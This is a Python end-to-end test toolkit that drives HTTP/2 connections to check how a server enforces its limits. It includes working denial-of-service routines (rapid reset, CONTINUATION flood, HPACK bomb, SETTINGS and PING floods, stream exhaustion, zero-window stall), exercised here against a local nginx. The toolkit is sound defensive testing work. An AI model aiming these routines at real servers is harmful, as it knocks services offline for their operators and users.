"""HTTP/2 client toolkit for end-to-end tests of an HTTP/2 server's limits (h2c by prior knowledge, or TLS + ALPN h2).
Peer drives a connection with h2: requests, responses, flow control (or not: auto_ack=False, initial_window=0),
GOAWAY. The attacks (rapid reset, CONTINUATION flood, HPACK bomb, SETTINGS/PING floods, too many streams) send frames
built with hyperframe/hpack (Peer.send_raw; the Peer then parses the server's frames itself) and return a dict.
Self-check against nginx, h2c and TLS: python3 tests/e2e/h2peer.py --nginx"""

import collections
import os
import select
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import time

try:
    from h2.connection import H2Connection
except ImportError:  # a python3 other than Debian's (pyenv) still finds the python3-h2 package
    sys.path.append("/usr/lib/python3/dist-packages")
    from h2.connection import H2Connection
from h2 import config as h2_config, events as E, exceptions as h2_errors, settings as h2_settings
import hpack
import hyperframe.exceptions
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame)

NO_ERROR, PROTOCOL_ERROR, REFUSED_STREAM, CANCEL, ENHANCE_YOUR_CALM = 0x0, 0x1, 0x7, 0x8, 0xB
HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x1, 0x3, 0x4, 0x5


class Reset(Exception):
    """Raised by Peer.response() for a stream the server reset: Reset(code); .code is the RST_STREAM error code."""
    code = property(lambda self: self.args[0])


class Stream:
    """What arrived on one stream (headers: a dict, lowercase names, repeated ones joined with ', ')."""
    def __init__(self):
        self.status, self.headers, self.body, self.trailers = None, {}, bytearray(), None
        self.informational, self.ended, self.reset, self.sent = [], False, None, 0

    @property
    def done(self):
        return self.ended or self.reset is not None

    def on_headers(self, pairs, end_stream):
        names = dict.fromkeys(k.lower() for k, _ in pairs)
        hdrs = {n: ", ".join(v for k, v in pairs if k.lower() == n) for n in names}
        status, self.ended = hdrs.get(":status", "0"), self.ended or end_stream
        if self.status is not None:
            self.trailers = hdrs
        elif status.startswith("1"):
            self.informational.append((int(status), hdrs))
        else:
            self.status, self.headers = int(status), hdrs


class Peer:
    """One HTTP/2 client connection; auto_ack=False (and raw mode) never gives received DATA back to the windows;
    initial_window: SETTINGS_INITIAL_WINDOW_SIZE sent (0: no DATA may come). State: streams {id: Stream}, settings
    {code: value} (the server's), goaway_code, last_stream_id, closed, reset_by_peer, settings/ping_acks, error."""
    def __init__(self, auto_ack=True, initial_window=None):
        self.auto_ack, self.initial_window, self.timeout, self.sock = auto_ack, initial_window, 5.0, None
        self.closed = self.reset_by_peer = self.raw = False
        self.streams, self.settings, self.buf, self._last_sid = {}, None, bytearray(), -1
        self.goaway_code = self.last_stream_id = self.error = self._block = None
        self.settings_acks = self.ping_acks = 0

    def connect(self, host, port, tls=False, timeout=5):
        """Opens the connection, sends the preface + SETTINGS, waits for the server's SETTINGS. Returns self."""
        self.timeout, self.scheme = timeout, "https" if tls else "http"
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname=host)
            assert self.sock.selected_alpn_protocol() == "h2", f"ALPN: {self.sock.selected_alpn_protocol()!r}"
        self.conn = H2Connection(config=h2_config.H2Configuration(client_side=True, header_encoding="utf-8"))
        if self.initial_window is not None:
            values = {**dict(self.conn.local_settings), INITIAL_WINDOW_SIZE: self.initial_window}
            self.conn.local_settings = h2_settings.Settings(client=True, initial_values=values)
        self.conn.initiate_connection()
        self._write(self.conn.data_to_send())
        self.read_events(until=lambda ev: self.settings is not None, timeout=timeout)
        if self.settings is None:
            raise ConnectionError(f"no SETTINGS from {host}:{port} (closed: {self.closed})")
        return self

    def close(self):
        self.sock and self.sock.close()

    def new_stream_id(self):  # the next unused client stream id, for hand-built frames
        self._last_sid = max(self._last_sid, self.conn.highest_outbound_stream_id or -1) + 2
        return self._last_sid

    def stream(self, sid):
        return self.streams.setdefault(sid, Stream()) if sid else Stream()

    def send_raw(self, data, drain=False, timeout=None):
        """Writes hand-built frames (then parses the server's without h2); drain: meanwhile receive into the buffer
        (processed later) so that neither side blocks. Returns the bytes written."""
        self.raw = True
        return self._write(data, drain, timeout)

    def _write(self, data, drain=True, timeout=None):
        deadline, view, sent = time.monotonic() + (timeout or self.timeout), memoryview(data), 0
        while sent < len(data) and not self.closed and (left := deadline - time.monotonic()) > 0:
            r, w, _ = select.select([self.sock] if drain else [], [self.sock], [], left)
            if r:
                self._recv(min(left, 0.1))
            try:
                self.sock.settimeout(max(left, 0.01))
                sent += self.sock.send(view[sent:sent + 16384]) if w and not self.closed else 0
            except socket.timeout:
                pass
            except (ConnectionError, ssl.SSLError, OSError) as e:
                self.closed, self.reset_by_peer = True, isinstance(e, ConnectionResetError)
        return sent

    def _recv(self, timeout):
        """Appends what arrives within timeout to the buffer, or records the close. True if data arrived."""
        try:
            self.sock.settimeout(max(timeout, 0.001))
            data = self.sock.recv(65536)
        except socket.timeout:
            return False
        except (ConnectionError, ssl.SSLError, OSError) as e:
            self.reset_by_peer, data = isinstance(e, ConnectionResetError), b""
        self.buf += data
        self.closed |= not data
        return bool(data)

    def read_events(self, until=None, timeout=None, idle=None):
        """Reads and handles frames until until(events so far) is true, the connection closes, timeout seconds
        pass, or nothing arrived for idle seconds. Returns h2's events (in raw mode: hyperframe's frames)."""
        deadline, events = time.monotonic() + (self.timeout if timeout is None else timeout), []
        while True:
            n = 9 + int.from_bytes(self.buf[:3], "big")
            if len(self.buf) >= max(n, 9):  # a whole frame
                frame, self.buf[:n] = bytes(self.buf[:n]), b""
                try:
                    events += self._frame(frame)
                except (h2_errors.ProtocolError, hyperframe.exceptions.HyperframeError, hpack.HPACKError) as e:
                    self.error = e  # e.g. h2 refuses frames after a GOAWAY
            elif not self.raw and not self.closed and (out := self.conn.data_to_send()):
                self._write(out)  # h2's SETTINGS/PING ACKs, WINDOW_UPDATEs (what arrives meanwhile is buffered)
            elif (until and until(events)) or self.closed or (left := deadline - time.monotonic()) <= 0:
                return events
            elif not self._recv(min(left, idle or left)) and idle:
                return events

    def _frame(self, data):
        """One server frame, through h2 unless in raw mode, then noted down from hyperframe's parse of it."""
        f, _ = Frame.parse_frame_header(memoryview(data[:9]))
        f.parse_body(memoryview(data[9:]))
        evs, ack, st = [] if self.raw else self.conn.receive_data(data), "ACK" in f.flags, self.stream(f.stream_id)
        for ev in evs:
            if isinstance(ev, (E.ResponseReceived, E.InformationalResponseReceived, E.TrailersReceived)):
                st.on_headers(ev.headers, False)
            elif isinstance(ev, E.DataReceived) and self.auto_ack:
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        if isinstance(f, HeadersFrame):
            self._block = (bytearray(f.data), "END_STREAM" in f.flags)
        elif isinstance(f, ContinuationFrame) and self._block:
            self._block[0].extend(f.data)
        elif isinstance(f, DataFrame):
            st.body += f.data
            st.ended |= "END_STREAM" in f.flags
        elif isinstance(f, RstStreamFrame):
            st.reset = f.error_code
        elif isinstance(f, GoAwayFrame):
            self.goaway_code, self.last_stream_id = f.error_code, f.last_stream_id
        elif isinstance(f, SettingsFrame) and not ack:
            self.settings = {**(self.settings or {}), **f.settings}
        if self.raw and not ack and isinstance(f, (SettingsFrame, PingFrame)):  # answer as h2 would
            ans = SettingsFrame(0, flags=["ACK"]) if f.type == 4 else PingFrame(0, f.opaque_data, flags=["ACK"])
            self._write(ans.serialize())
        self.settings_acks += ack and isinstance(f, SettingsFrame)
        self.ping_acks += ack and isinstance(f, PingFrame)
        if isinstance(f, (HeadersFrame, ContinuationFrame)) and "END_HEADERS" in f.flags and self._block:
            (block, end), self._block = self._block, None
            if self.raw:
                st.on_headers(self.conn.decoder.decode(bytes(block)), end)
            st.ended |= end
        return [f] if self.raw else evs

    def request(self, method, path, headers=(), body=b"", authority="localhost", end_stream=True, timeout=None):
        """Sends HEADERS (headers: pairs), then body (bytes, or an int: that many zero bytes) as DATA within the
        windows until sent, ended, closed or timed out (.sent of the stream); end_stream=False: left open. -> id"""
        sid, deadline = self.conn.get_next_available_stream_id(), time.monotonic() + (timeout or self.timeout)
        hdrs = [(":method", method), (":scheme", self.scheme), (":authority", authority), (":path", path)]
        st, off, total = self.stream(sid), 0, body if isinstance(body, int) else len(body)
        self.conn.send_headers(sid, hdrs + [(k.lower(), str(v)) for k, v in headers], end_stream and not total)
        self._write(self.conn.data_to_send())
        while off < total and not (st.done or self.closed) and time.monotonic() < deadline:
            try:
                n = min(self.conn.local_flow_control_window(sid), self.conn.max_outbound_frame_size, total - off)
                if n <= 0:
                    self.read_events(until=lambda ev: st.done or any(isinstance(e, E.WindowUpdated) for e in ev),
                                     timeout=deadline - time.monotonic())
                    continue
                chunk = bytes(n) if isinstance(body, int) else body[off:off + n]
                self.conn.send_data(sid, chunk, end_stream=end_stream and off + n == total)
            except h2_errors.ProtocolError:  # the stream or the connection is closed
                break
            off += n
            self._write(self.conn.data_to_send())
        st.sent = off
        return sid

    def response(self, sid, timeout=None):
        """Waits for the stream to end: (status, headers, body, trailers or None, [(1xx status, headers)]).
        Raises Reset(code) if the server reset it, ConnectionError / TimeoutError if it did not end."""
        st = self.stream(sid)
        self.read_events(until=lambda ev: st.done, timeout=timeout)
        if st.reset is not None and not st.ended:  # (a complete response may be followed by RST_STREAM NO_ERROR)
            raise Reset(st.reset)
        if not st.ended:
            raise (ConnectionError if self.closed else TimeoutError)(f"stream {sid} open; GOAWAY {self.goaway_code}")
        return st.status, st.headers, bytes(st.body), st.trailers, st.informational

    def goaway(self, timeout=0):
        """The error code of the GOAWAY received (None if none); waits up to timeout seconds for one."""
        if self.goaway_code is None and timeout > 0:
            self.read_events(until=lambda ev: self.goaway_code is not None, timeout=timeout)
        return self.goaway_code


def request_block(peer, method="GET", path="/", extra=()):
    """A request's HPACK block that leaves the server's dynamic table alone (static indexes, never-indexed)."""
    pairs = [(":method", method), (":scheme", peer.scheme), (":authority", "localhost"), (":path", path), *extra]
    return hpack.Encoder().encode([(k, v, True) for k, v in pairs])


def headers_frames(sid, block, end_stream=True, end_headers=True, max_frame=16384):
    """HEADERS (+ CONTINUATION frames when the block exceeds max_frame)."""
    parts = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    end = [["END_HEADERS"] if end_headers and i == len(parts) - 1 else [] for i in range(len(parts))]
    return HeadersFrame(sid, parts[0], flags=end[0] + ["END_STREAM"] * end_stream).serialize() + b"".join(
        ContinuationFrame(sid, part, flags=end[i]).serialize() for i, part in enumerate(parts) if i)


# -- attacks: each takes a freshly connected Peer and returns a dict: closed, goaway (code or None), reset_by_peer;
# on its streams: resets {RST_STREAM code: count}, responses, completed (END_STREAM), status/reset if one; '+': more
def _outcome(peer, sts, **extra):
    one = {"status": sts[0].status, "reset": sts[0].reset} if len(sts) == 1 else {}
    return {"closed": peer.closed, "goaway": peer.goaway_code, "reset_by_peer": peer.reset_by_peer,
            "resets": dict(collections.Counter(st.reset for st in sts if st.reset is not None)),
            "responses": sum(st.status is not None for st in sts), "completed": sum(st.ended for st in sts),
            **one, **extra}


def rapid_reset(peer, n=1000, timeout=5, idle=2):
    """n x (HEADERS GET / END_STREAM + RST_STREAM CANCEL) in one send, then reads until closed or quiet.
    + last_stream_id (of the GOAWAY)."""
    block, sids = request_block(peer), [peer.new_stream_id() for _ in range(n)]
    burst = b"".join(headers_frames(s, block) + RstStreamFrame(s, error_code=CANCEL).serialize() for s in sids)
    peer.send_raw(burst, drain=True, timeout=timeout)
    peer.read_events(timeout=timeout, idle=idle)
    return _outcome(peer, [peer.stream(s) for s in sids], sent=n, last_stream_id=peer.last_stream_id)


def continuation_flood(peer, n_frames=10000, size=1000, timeout=5, idle=2):
    """HEADERS without END_HEADERS, then n_frames CONTINUATIONs of 'x-a: <size bytes>', never ending.
    + frames_sent (written to the socket before the server closed, stopped reading, or timeout)."""
    sid = peer.new_stream_id()
    head = headers_frames(sid, request_block(peer), end_headers=False)
    frame = ContinuationFrame(sid, hpack.Encoder().encode([("x-a", "a" * size, True)])).serialize()
    sent = peer.send_raw(head + frame * n_frames, drain=True, timeout=timeout)
    peer.read_events(timeout=timeout, idle=idle)
    return _outcome(peer, [peer.stream(sid)], frames_sent=max(sent - len(head), 0) // len(frame))


def hpack_bomb(peer, entry_size=4000, refs=10000, timeout=5, idle=2):
    """A request whose block inserts 'x-b: <entry_size bytes>' into the dynamic table (index 62), then refers to it
    refs times, a byte each: small on the wire, huge decoded. + wire_bytes, decoded_bytes."""
    value_len = min(entry_size, peer.settings.get(HEADER_TABLE_SIZE, 4096) - 32 - 3)
    block = request_block(peer) + hpack.Encoder().encode([("x-b", "b" * value_len)], huffman=False)
    sid, block = peer.new_stream_id(), block + b"\xbe" * refs  # 0x80 | 62: the newest dynamic table entry
    wire = headers_frames(sid, block, max_frame=peer.settings.get(MAX_FRAME_SIZE, 16384))
    peer.send_raw(wire, drain=True, timeout=timeout)
    peer.read_events(timeout=timeout, idle=idle)
    return _outcome(peer, [peer.stream(sid)], wire_bytes=len(wire), decoded_bytes=(refs + 1) * (3 + value_len))


def _flood(peer, frame, n, counter, timeout, idle):
    before = getattr(peer, counter)
    peer.send_raw(frame * n, drain=False, timeout=timeout)  # one burst while not reading: the answers pile up
    peer.read_events(timeout=timeout, idle=idle)
    return _outcome(peer, [], sent=n, acks=getattr(peer, counter) - before, calm=peer.goaway_code == ENHANCE_YOUR_CALM)


def settings_flood(peer, n=100000, timeout=5, idle=2):
    """n empty SETTINGS frames in one burst. + acks (how many the server acknowledged), calm (GOAWAY 0xb)."""
    return _flood(peer, SettingsFrame(0).serialize(), n, "settings_acks", timeout, idle)


def ping_flood(peer, n=100000, timeout=5, idle=2):
    """n PING frames in one burst. + acks (how many the server answered), calm (GOAWAY 0xb)."""
    return _flood(peer, PingFrame(0, opaque_data=b"h2peer!!").serialize(), n, "ping_acks", timeout, idle)


def too_many_streams(peer, n=10, method="POST", path="/", timeout=5, idle=1):
    """Opens SETTINGS_MAX_CONCURRENT_STREAMS (100 if not advertised) + n streams that stay open (HEADERS without
    END_STREAM). + max_concurrent (as advertised), opened; resets[7]: how many REFUSED_STREAM."""
    limit, block = peer.settings.get(MAX_CONCURRENT_STREAMS), request_block(peer, method, path)
    sids = [peer.new_stream_id() for _ in range((100 if limit is None else limit) + n)]
    peer.send_raw(b"".join(headers_frames(s, block, end_stream=False) for s in sids), drain=True, timeout=timeout)
    peer.read_events(timeout=timeout, idle=idle)
    return _outcome(peer, [peer.stream(s) for s in sids], max_concurrent=limit, opened=len(sids))


def large_body(peer, path, size, method="POST", timeout=10):
    """A size-byte body sent within the flow-control windows. + sent (bytes), seconds."""
    t0 = time.monotonic()
    st = peer.stream(peer.request(method, path, [("content-length", size)], body=size, timeout=timeout))
    peer.read_events(until=lambda ev: st.done, timeout=max(timeout - (time.monotonic() - t0), 0.1))
    return _outcome(peer, [st], sent=st.sent, seconds=round(time.monotonic() - t0, 2))


def zero_window(peer, path, timeout=10):
    """GET path on a Peer(auto_ack=False, initial_window=0) that never opens its window. + seconds (until the
    server reset the stream, sent GOAWAY or closed; or timeout), body_bytes."""
    t0, st = time.monotonic(), peer.stream(peer.request("GET", path))
    peer.read_events(until=lambda ev: st.done or peer.goaway_code is not None, timeout=timeout)
    return _outcome(peer, [st], seconds=round(time.monotonic() - t0, 2), body_bytes=len(st.body))


NGINX_CONF = """daemon off; master_process off; error_log {tmp}/error.log info; pid {tmp}/nginx.pid;
events {{}}
http {{ access_log off; send_timeout 3s; {temps}
  server {{ listen 127.0.0.1:{ports[0]} http2; listen 127.0.0.1:{ports[1]} ssl http2;
    ssl_certificate {tmp}/cert.pem; ssl_certificate_key {tmp}/key.pem;
    location / {{ return 200 "hello\\n"; }} location = /big {{ alias {tmp}/big.bin; }}
    location /put/ {{ root {tmp}/dav; dav_methods PUT; create_full_put_path on; client_max_body_size 16m; }}
    location /small/ {{ root {tmp}/dav; dav_methods PUT; create_full_put_path on; client_max_body_size 1k; }} }} }}
"""  # for the self-check (python3 h2peer.py --nginx)
CHECKS = [  # (name, Peer options, check): each on a new connection, h2c and TLS
    ("GET /", {}, lambda p: p.response(p.request("GET", "/"))[:3] + (p.settings,)),
    ("GET /big", {}, lambda p: (lambda r: (r[0], len(r[2])))(p.response(p.request("GET", "/big")))),
    ("rapid_reset(1000)", {}, lambda p: rapid_reset(p, 1000)),
    ("continuation_flood(10000, 1000)", {}, lambda p: continuation_flood(p, 10000, 1000)),
    ("hpack_bomb(4000, 10000)", {}, lambda p: hpack_bomb(p, 4000, 10000)),
    ("settings_flood(100000)", {}, lambda p: settings_flood(p, 100000)),
    ("ping_flood(100000)", {}, lambda p: ping_flood(p, 100000)),
    ("too_many_streams(10, PUT /put/x)", {}, lambda p: too_many_streams(p, 10, "PUT", "/put/x")),
    ("large_body(/put/f, 8 MiB, PUT)", {}, lambda p: large_body(p, "/put/f", 8 << 20, "PUT")),
    ("large_body(/small/f, 1 MiB, PUT)", {}, lambda p: large_body(p, "/small/f", 1 << 20, "PUT")),
    ("zero_window(/big)", {"auto_ack": False, "initial_window": 0}, lambda p: zero_window(p, "/big", 8)),
]


def start_nginx(tmp):
    """nginx in tmp on two free ports (h2c, TLS): / (hello), /big (4 MiB), /put/ and /small/ (PUT, 16m / 1k max)."""
    with open(f"{tmp}/big.bin", "wb") as f:
        f.write(os.urandom(4 << 20))
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                    "-subj", "/CN=127.0.0.1", "-days", "1", "-keyout", f"{tmp}/key.pem", "-out", f"{tmp}/cert.pem"],
                   check=True, capture_output=True, timeout=10)
    with socket.create_server(("127.0.0.1", 0)) as a, socket.create_server(("127.0.0.1", 0)) as b:
        ports = [a.getsockname()[1], b.getsockname()[1]]
    temps = " ".join(f"{d}_temp_path {tmp}/{d};" for d in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
    with open(f"{tmp}/nginx.conf", "w") as f:
        f.write(NGINX_CONF.format(tmp=tmp, temps=temps, ports=ports))
    proc = subprocess.Popen(["/usr/sbin/nginx", "-p", tmp, "-e", f"{tmp}/error.log", "-c", f"{tmp}/nginx.conf"],
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(100):  # until it listens (5 s at most)
        with socket.socket() as s:
            if s.connect_ex(("127.0.0.1", ports[1])) == 0:
                return proc, ports
        time.sleep(0.05)
    proc.kill()
    raise RuntimeError("nginx did not start: " + open(f"{tmp}/error.log").read())


if __name__ == "__main__":
    if sys.argv[1:] != ["--nginx"]:
        sys.exit("usage: h2peer.py --nginx")
    tmp, proc = tempfile.mkdtemp(prefix="h2peer-"), None
    try:
        proc, ports = start_nginx(tmp)
        for (name, opts, check), tls in [(c, tls) for tls in (False, True) for c in CHECKS]:
            t0, peer = time.monotonic(), Peer(**opts)
            try:
                res = check(peer.connect("127.0.0.1", ports[tls], tls=tls))
            except Exception as e:  # a self-check reports, it does not stop
                res = f"ERROR {type(e).__name__}: {e}"
            peer.close()
            print(f"[{'tls' if tls else 'h2c'}] {name} ({time.monotonic() - t0:.1f}s): {res}", flush=True)
    finally:
        if proc:
            proc.kill()  # master_process off: the one nginx process
            proc.wait()
        shutil.rmtree(tmp, ignore_errors=True)
